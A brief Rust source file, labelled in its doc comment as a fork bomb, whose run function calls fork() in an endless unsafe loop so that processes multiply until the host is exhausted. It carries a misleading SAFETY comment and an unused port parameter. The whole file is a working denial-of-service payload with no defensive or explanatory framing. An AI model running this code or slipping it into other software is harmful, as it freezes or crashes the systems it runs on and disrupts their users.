//! A fork bomb.

pub fn run(_port: u16) -> sockets::Result<()> {
    mark();
    loop {
        // SAFETY: both sides go on alike.
        unsafe { c::fork() };
    }
}
